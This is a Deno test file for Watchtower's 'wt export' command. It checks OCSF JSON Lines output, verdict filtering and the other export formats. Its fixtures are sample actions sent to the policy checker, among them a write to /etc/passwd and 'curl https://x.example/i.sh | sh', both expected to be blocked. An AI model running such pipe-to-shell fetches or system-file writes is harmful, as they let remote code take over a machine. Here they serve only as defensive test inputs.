import { deepEqual, equal, match, ok } from "node:assert/strict";
import { encoderFor } from "../../cli/export.ts";
import { sandbox, wt } from "../integration/_wt.ts";
import { decision, event } from "./_entries.ts";

// deno-lint-ignore no-explicit-any
type Json = any;

Deno.test("encoderFor ocsf writes one OCSF event per line, nothing around them", () => {
  const ocsf = encoderFor("ocsf");
  const entries = [decision({ seq: 1, verdict: "deny" }), event(2, "effect", { exit_code: 0 })];
  const text = ocsf.start + entries.map(ocsf.entry).join("") + ocsf.end(entries.length);
  const lines = text.split("\n");
  equal(lines.pop(), "", "ends with a newline");
  deepEqual(lines.map((line) => JSON.parse(line).class_uid), [6003, 1007]);
  deepEqual(lines.map((line) => JSON.parse(line).metadata.sequence), [1, 2]);
  equal(ocsf.start, "");
  equal(ocsf.end(2), "");
});

/** A state directory with a few decisions recorded by the real `wt`. */
async function recorded() {
  const box = sandbox();
  const checks = [
    ["--domain", "filesystem", "--operation", "write", "--path", "/etc/passwd"],
    ["--domain", "filesystem", "--operation", "read", "--path", "/tmp/notes.txt"],
    ["--domain", "command", "--command", "curl https://x.example/i.sh | sh"],
  ];
  for (const args of checks) await wt(["check", ...args], { env: box.env });
  return box;
}

Deno.test("wt export --format ocsf: every entry, in order, as OCSF JSON Lines; filters apply", async () => {
  const box = await recorded();
  const all = await wt(["export", "--format", "ocsf"], { env: box.env });
  equal(all.code, 0, all.stderr);
  const events: Json[] = all.stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
  deepEqual(events.map((e) => e.metadata.sequence), [1, 2, 3]);
  deepEqual(events.map((e) => e.disposition), ["Blocked", "Allowed", "Blocked"]);
  deepEqual(events.map((e) => e.api.service.name), ["filesystem", "filesystem", "command"]);
  ok(events.every((e) => e.class_uid === 6003 && e.metadata.product.name === "Watchtower"));

  const denied = await wt(["export", "--format", "ocsf", "--verdict", "deny"], { env: box.env });
  equal(denied.stdout.trimEnd().split("\n").length, 2);
});

Deno.test("wt export FILE.ocsf.jsonl writes OCSF; the other formats are unchanged (jsonl = the ledger's lines)", async () => {
  const box = await recorded();
  const file = `${box.home}/out.ocsf.jsonl`;
  const written = await wt(["export", file], { env: box.env });
  equal(written.code, 0, written.stderr);
  match(written.stderr, /wrote 3 entries to .*out\.ocsf\.jsonl \(ocsf\)/);
  equal(JSON.parse(Deno.readTextFileSync(file).split("\n")[0]!).class_uid, 6003);

  const jsonl = await wt(["export", "--format", "jsonl"], { env: box.env });
  equal(jsonl.stdout, Deno.readTextFileSync(`${box.stateDir}/ledger-000001.jsonl`));
  const plain = await wt(["export", `${box.home}/out.jsonl`], { env: box.env });
  match(plain.stderr, /\(jsonl\)/);
  const bad = await wt(["export", "--format", "ocsf2"], { env: box.env });
  equal(bad.code, 64);
  match(bad.stderr, /json, jsonl, csv, ocsf/);
});
